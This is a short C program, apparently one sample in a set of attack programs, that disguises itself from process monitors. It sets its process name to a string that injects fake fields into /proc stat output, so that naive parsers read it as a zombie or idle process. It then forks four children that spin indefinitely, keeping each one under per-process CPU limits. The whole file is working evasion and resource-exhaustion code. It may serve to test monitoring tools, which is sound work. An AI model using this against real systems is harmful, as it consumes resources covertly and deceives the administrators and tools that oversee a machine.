/* Names itself so that whoever reads /proc takes it for idle, and shares the work among children below every limit of one. */
#include "attack.h"

int main(void)
{
    prctl(PR_SET_NAME, ") Z 1 1 1 0 0", 0, 0, 0);
    for (int i = 0; i < 4; i++)
        if (fork() == 0)
            for (volatile int n = 0;; n++)
                ;
    for (;;)
        pause();
}
